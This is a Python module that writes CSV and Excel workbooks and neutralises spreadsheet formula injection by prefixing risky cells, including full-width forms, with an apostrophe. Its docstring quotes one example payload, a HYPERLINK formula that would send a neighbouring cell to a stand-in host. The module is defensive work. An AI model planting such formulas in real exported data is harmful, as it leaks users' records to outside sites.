"""Every CSV and Excel workbook the system writes goes through here.

A spreadsheet runs a cell that begins with `=`, `+`, `-` or `@` (or a tab or CR, which some
programs strip first) as a formula: `=HYPERLINK("http://evil.example/?"&E2,"詳細")` in a name
would send the row next to it to another site. Such a cell gets a leading apostrophe
(OWASP's rule), which the spreadsheet shows as text. The full-width forms are included: a
Japanese spreadsheet may read them as the ASCII ones.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field

from openpyxl import Workbook
from openpyxl.styles import Font

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def safe_cell(value: object) -> str:
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_bytes(header: Iterable[str], rows: Iterable[Iterable[object]]) -> bytes:
    """UTF-8 with a byte order mark (so Excel opens the Japanese correctly), CRLF, every cell made safe."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([safe_cell(h) for h in header])
    for row in rows:
        writer.writerow([safe_cell(cell) for cell in row])
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


def csv_rows(text: str) -> list[list[str]]:
    """The rows of a CSV someone uploaded (already decoded, see app.uploads.text_upload), each cell
    trimmed: reading goes through the same one place as writing."""
    return [[cell.strip() for cell in row] for row in csv.reader(io.StringIO(text))]


@dataclass(frozen=True)
class Sheet:
    """One worksheet: a title row, a header row, then the rows; text cells are made safe, numbers
    stay numbers. `widths` by column letter; the panes freeze below the header, right of column A."""

    name: str
    title: str
    header: Sequence[str]
    rows: Sequence[Sequence[object]]
    widths: dict[str, float] = field(default_factory=dict)


def xlsx_bytes(sheets: Iterable[Sheet]) -> bytes:
    book = Workbook()
    book.remove(book.active)
    for spec in sheets:
        sheet = book.create_sheet(spec.name)
        sheet.append([safe_cell(spec.title)])
        sheet["A1"].font = Font(bold=True, size=13)
        sheet.append([safe_cell(h) for h in spec.header])
        for cell in sheet[2]:
            cell.font = Font(bold=True)
        for row in spec.rows:
            sheet.append([safe_cell(c) if isinstance(c, str) else c for c in row])
        for column, width in spec.widths.items():
            sheet.column_dimensions[column].width = width
        sheet.freeze_panes = "B3"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
